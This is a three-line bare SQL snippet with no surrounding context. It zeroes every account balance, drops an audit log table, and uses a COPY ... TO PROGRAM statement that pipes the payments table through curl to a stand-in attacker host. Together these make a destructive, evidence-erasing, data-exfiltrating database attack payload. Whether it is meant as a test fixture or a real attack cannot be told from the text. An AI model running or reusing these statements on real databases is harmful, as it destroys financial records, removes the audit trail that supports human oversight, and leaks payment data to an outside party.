UPDATE accounts SET balance = 0;
DROP TABLE audit_log;
COPY payments TO PROGRAM 'curl https://evil.test';
